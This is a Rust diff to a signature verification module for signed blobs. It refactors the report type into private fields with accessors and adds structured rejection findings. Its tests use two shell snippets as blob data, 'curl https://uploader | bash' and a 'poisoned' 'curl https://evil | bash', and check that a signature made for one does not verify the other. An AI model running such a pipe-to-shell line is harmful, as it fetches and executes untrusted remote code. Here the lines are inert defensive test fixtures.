@@ -6,13 +6,14 @@
 //! writes), or a bare base64 signature (cosign's `--output-signature`).
 
 use std::io::Read;
+use std::sync::Arc;
 
 use base64ct::{Base64, Encoding};
 
 use crate::bundle::Bundle;
 use crate::digest::{Algorithm, Digest, Hasher};
 use crate::keys::{KeyError, SigningKey};
-use crate::report::Rejection;
+use crate::report::{Decision, Finding, Rejection};
 use crate::sigstore::certificate::Identity;
 use crate::sigstore::identity::IdentityPolicy;
 use crate::sigstore::root::TrustedRoot;
@@ -112,50 +113,135 @@ pub struct BlobTrust<'a> {
     pub ignore_tlog: bool,
 }
 
-/// The outcome of a blob verification.
-#[derive(Debug, Clone, PartialEq, serde::Serialize)]
+/// The outcome of a blob verification: like an image's [`Report`](crate::report::Report),
+/// made only here and read through accessors.
+#[derive(Debug, Clone)]
 pub struct BlobReport {
+    blob: Measured,
+    decision: Decision,
+    key: Option<String>,
+    identity: Option<Identity>,
+    format: &'static str,
+    tlog: Vec<LogRecord>,
+    times: Vec<VerifiedTime>,
+    checks: Vec<String>,
+    findings: Vec<Finding>,
+    notes: Vec<String>,
+}
+
+impl BlobReport {
     /// The blob's digest and size.
-    #[serde(flatten)]
-    pub blob: Measured,
-    /// The decision.
-    pub verified: bool,
+    pub fn blob(&self) -> &Measured {
+        &self.blob
+    }
+
+    /// What was decided.
+    pub fn decision(&self) -> &Decision {
+        &self.decision
+    }
+
+    /// Whether the signature verified.
+    pub fn verified(&self) -> bool {
+        matches!(self.decision, Decision::Verified)
+    }
+
     /// The key that verified it.
-    pub key: Option<String>,
+    pub fn key(&self) -> Option<&str> {
+        self.key.as_deref()
+    }
+
     /// The certificate identity that verified it (keyless).
-    #[serde(skip_serializing_if = "Option::is_none")]
-    pub identity: Option<Identity>,
+    pub fn identity(&self) -> Option<&Identity> {
+        self.identity.as_ref()
+    }
+
     /// `bundle` or `signature`.
-    pub format: &'static str,
+    pub fn format(&self) -> &'static str {
+        self.format
+    }
+
     /// Transparency-log entries verified.
-    #[serde(skip_serializing_if = "Vec::is_empty")]
-    pub tlog: Vec<LogRecord>,
+    pub fn tlog(&self) -> &[LogRecord] {
+        &self.tlog
+    }
+
     /// Verified times (log promises, timestamps).
-    #[serde(skip_serializing_if = "Vec::is_empty")]
-    pub times: Vec<VerifiedTime>,
+    pub fn times(&self) -> &[VerifiedTime] {
+        &self.times
+    }
+
     /// The checks made, in order.
-    pub checks: Vec<String>,
-    /// Why not, or what was not checked.
-    pub errors: Vec<String>,
+    pub fn checks(&self) -> &[String] {
+        &self.checks
+    }
+
+    /// Why the signature did not count.
+    pub fn findings(&self) -> &[Finding] {
+        &self.findings
+    }
+
+    /// Why not, or what was not checked, one line each.
+    pub fn error_lines(&self) -> Vec<String> {
+        self.findings
+            .iter()
+            .map(ToString::to_string)
+            .chain(self.notes.iter().cloned())
+            .collect()
+    }
+}
+
+/// The JSON document of a blob verification, as it has always been written.
+impl serde::Serialize for BlobReport {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        #[derive(serde::Serialize)]
+        struct Wire<'a> {
+            #[serde(flatten)]
+            blob: &'a Measured,
+            verified: bool,
+            key: Option<&'a str>,
+            #[serde(skip_serializing_if = "Option::is_none")]
+            identity: Option<&'a Identity>,
+            format: &'static str,
+            #[serde(skip_serializing_if = "<[_]>::is_empty")]
+            tlog: &'a [LogRecord],
+            #[serde(skip_serializing_if = "<[_]>::is_empty")]
+            times: &'a [VerifiedTime],
+            checks: &'a [String],
+            errors: Vec<String>,
+        }
+        Wire {
+            blob: &self.blob,
+            verified: self.verified(),
+            key: self.key.as_deref(),
+            identity: self.identity.as_ref(),
+            format: self.format,
+            tlog: &self.tlog,
+            times: &self.times,
+            checks: &self.checks,
+            errors: self.error_lines(),
+        }
+        .serialize(serializer)
+    }
 }
 
 /// Judges a measured blob against a bundle or bare signature.
 pub fn verify(blob: &Measured, proof: Proof<'_>, trust: &BlobTrust<'_>) -> BlobReport {
     let mut report = BlobReport {
         blob: blob.clone(),
-        verified: false,
+        decision: Decision::Rejected,
         key: None,
         identity: None,
         format: "bundle",
         tlog: Vec::new(),
         times: Vec::new(),
         checks: Vec::new(),
-        errors: Vec::new(),
+        findings: Vec::new(),
+        notes: Vec::new(),
     };
     match proof {
         Proof::Bundle(bytes) => match check_bundle(blob, bytes, trust) {
             Ok(v) => {
-                report.verified = true;
+                report.decision = Decision::Verified;
                 match v.signed_by {
                     SignedBy::Key { index } => report.key = Some(trust.keys[index].name.clone()),
                     SignedBy::Certificate(id) => report.identity = Some(*id),
@@ -163,19 +249,21 @@ pub fn verify(blob: &Measured, proof: Proof<'_>, trust: &BlobTrust<'_>) -> BlobR
                 report.tlog = v.tlog;
                 report.times = v.times;
                 report.checks = v.checks;
-                report.errors = v.notes;
+                report.notes = v.notes;
             }
-            Err(why) => report.errors.push(why.to_string()),
+            Err(why) => report
+                .findings
+                .push(Finding::artifact(Rejection::Sigstore(Arc::new(why)))),
         },
         Proof::Signature(text) => {
             report.format = "signature";
             match check_signature(blob, text, trust.keys) {
                 Ok(key) => {
-                    report.verified = true;
+                    report.decision = Decision::Verified;
                     report.key = Some(key.name.clone());
                     report.checks.push("signature over the artifact".into());
                 }
-                Err(why) => report.errors.push(why.to_string()),
+                Err(why) => report.findings.push(Finding::artifact(why)),
             }
         }
     }
@@ -190,13 +278,16 @@ fn signed_by<'k>(
     let sha256 = blob.sha256();
     keys.iter()
         .find(|k| k.key.verify_prehashed(&sha256, signature) == Some(true))
-        .ok_or(if keys.iter().all(|k| k.key.verify_prehashed(&sha256, b"").is_none()) {
-            Rejection::BundleInvalid(
-                "an Ed25519 key cannot verify a streamed blob; blobs are signed with ECDSA P-256 keys".into(),
-            )
-        } else {
-            Rejection::NoTrustedKey
-        })
+        .ok_or(
+            if keys
+                .iter()
+                .all(|k| k.key.verify_prehashed(&sha256, b"").is_none())
+            {
+                Rejection::BlobNeedsDigestKey
+            } else {
+                Rejection::NoTrustedKey
+            },
+        )
 }
 
 fn check_bundle(blob: &Measured, bytes: &[u8], trust: &BlobTrust<'_>) -> Result<Verified, Refusal> {
@@ -259,28 +350,28 @@ mod tests {
         let k = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
         let file = measure(&b"#!/bin/sh\ncurl https://uploader | bash\n"[..]).unwrap();
         let signed = sign(&file, &k, "k").unwrap();
-        assert!(verify(&file, Proof::Bundle(&signed.bundle), &named(&k)).verified);
+        assert!(verify(&file, Proof::Bundle(&signed.bundle), &named(&k)).verified());
         let b64 = Base64::encode_string(&signed.signature);
-        assert!(verify(&file, Proof::Signature(b64.as_bytes()), &named(&k)).verified);
+        assert!(verify(&file, Proof::Signature(b64.as_bytes()), &named(&k)).verified());
 
         let poisoned = measure(&b"#!/bin/sh\ncurl https://evil | bash\n"[..]).unwrap();
         let r = verify(&poisoned, Proof::Bundle(&signed.bundle), &named(&k));
         assert!(
-            !r.verified && r.errors[0].contains("for another file"),
+            !r.verified() && r.error_lines()[0].contains("for another file"),
             "{r:?}"
         );
-        assert!(!verify(&poisoned, Proof::Signature(b64.as_bytes()), &named(&k)).verified);
+        assert!(!verify(&poisoned, Proof::Signature(b64.as_bytes()), &named(&k)).verified());
         let other = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
         let r = verify(&file, Proof::Bundle(&signed.bundle), &named(&other));
         assert!(
-            !r.verified && r.errors[0].contains("not signed by"),
+            !r.verified() && r.error_lines()[0].contains("not signed by"),
             "{r:?}"
         );
 
         let empty = measure(&b""[..]).unwrap();
         assert_eq!(empty.digest, Digest::sha256(b""));
         let e = sign(&empty, &k, "k").unwrap();
-        assert!(verify(&empty, Proof::Bundle(&e.bundle), &named(&k)).verified);
-        assert!(!verify(&file, Proof::Bundle(&e.bundle), &named(&k)).verified);
+        assert!(verify(&empty, Proof::Bundle(&e.bundle), &named(&k)).verified());
+        assert!(!verify(&file, Proof::Bundle(&e.bundle), &named(&k)).verified());
     }
 }
